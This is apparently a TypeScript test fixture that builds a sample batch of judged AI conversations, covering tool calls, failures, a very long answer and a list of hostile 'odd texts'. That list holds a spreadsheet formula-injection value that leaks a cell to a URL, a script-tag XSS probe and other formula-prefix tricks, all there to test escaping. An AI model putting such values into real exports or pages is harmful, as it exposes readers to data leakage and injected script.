import { createHash } from 'node:crypto';
import { type JudgedBatch, type JudgedRecord } from './judged-batch.ts';
import { judgement, QUALITY, RULES, score } from './judged-rows.ts';

/** A million characters of text that no table compresses away. */
export const LONG_ANSWER = Array.from({ length: 15_625 }, (_, index) =>
  createHash('sha256').update(String(index)).digest('hex'),
).join('');

/** Texts that break what takes them for markup, for formulas, for ends of cells or lines. */
export const ODD_TEXTS: readonly string[] = [
  '=HYPERLINK("http://127.0.0.1/?leak="&A1,"click")',
  '  +1+1',
  '\u200b@SUM(1)',
  '\uff1d1+1',
  '-2 degrees',
  "'=quoted already",
  '\ttabbed',
  'comma, "quote" and\r\nline end\nand \u2028 separator',
  '# Heading\n\n## batch/other\n\n```\nopen fence',
  '<script>alert(1)</script><!-- <details>',
  '\u202eright to left \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627',
  '👩‍🚀 🏳️‍🌈 e\u0301',
  '',
];

const CALLS = [
  { name: 'search', arguments: { words: ['lock'] } },
  { name: 'read', arguments: 'broken {' },
];

const oddConversations: readonly JudgedRecord[] = ODD_TEXTS.map((text, index) => ({
  seed: { id: `odd-${index}`, question: `Odd ${index}?`, tag: text.slice(0, 40) || 'plain' },
  turns: [
    { content: text, left: text },
    { question: text || 'And?', content: text },
  ],
  ending: { outcome: 'completed' },
}));

/**
 * A judged batch with whatever a conversation may hold: tool calls and results, personas and trials, a failure without a turn,
 * one that runs, a long answer, and odd texts. The first ones hold no tool calls, seed metadata or tags.
 */
export const TOLD: JudgedBatch = {
  batchId: 'told',
  spec: { systemMessage: 'Be brief.', judges: [RULES, QUALITY] },
  conversations: [
    { seed: { id: 'plain', question: 'Plain?' }, turns: [{}], ending: { outcome: 'completed' } },
    {
      seed: {
        id: 'bike.expert.t2',
        caseId: 'bike',
        persona: 'expert',
        trial: 2,
        question: 'Where is my bike?',
        tag: 'repairs',
        goal: ['find it', 'lock it'],
        metadata: { team: 'blue', page: 7, nested: { deep: [1, '2'] } },
        history: [
          { role: 'user', content: 'Hello' },
          { role: 'assistant', content: 'Hi' },
        ],
      },
      turns: [
        {
          content: 'In the shed 🚲.',
          toolCalls: CALLS,
          toolOutputs: ['[1]', '[2]'],
          usage: { inputTokens: 20, outputTokens: 6, cachedInputTokens: 4 },
          latencyMs: 812,
          firstTextMs: 90,
          traceId: 'tr-1',
          finishReason: 'stop',
        },
        { question: 'And the key?', content: 'With it.', toolCalls: CALLS, toolOutputs: ['[3]'] },
      ],
      ending: { outcome: 'goal-reached', endReason: 'found' },
      found: {
        run: [
          judgement('rules', { polite: 'pass' }, { turns: 2 }),
          judgement(
            'quality',
            {},
            {
              turns: 2,
              scores: [
                score('resolved', 'fail', { reasoning: '# Why', evidence: [{ turn: 0, quote: 'In the shed' }] }),
                score('tone', 3),
              ],
            },
          ),
        ],
      },
    },
    {
      seed: { id: 'down', question: 'Anybody?', tag: 'repairs' },
      ending: { outcome: 'agent-failed', errorType: 'Unavailable', errorMessage: 'refused: "503", later' },
    },
    { seed: { id: 'runs', question: 'Still there?' }, turns: [{}] },
    {
      seed: { id: 'long', question: 'Tell me all.', tag: 'long' },
      turns: [{ content: LONG_ANSWER }, { question: 'More?', content: `${LONG_ANSWER}.` }],
      ending: { outcome: 'completed' },
      found: {
        run: [
          judgement('rules', { polite: 'pass' }, { turns: 2 }),
          judgement('quality', { resolved: 'pass', tone: 5 }, { turns: 2 }),
        ],
      },
    },
    ...oddConversations,
  ],
};
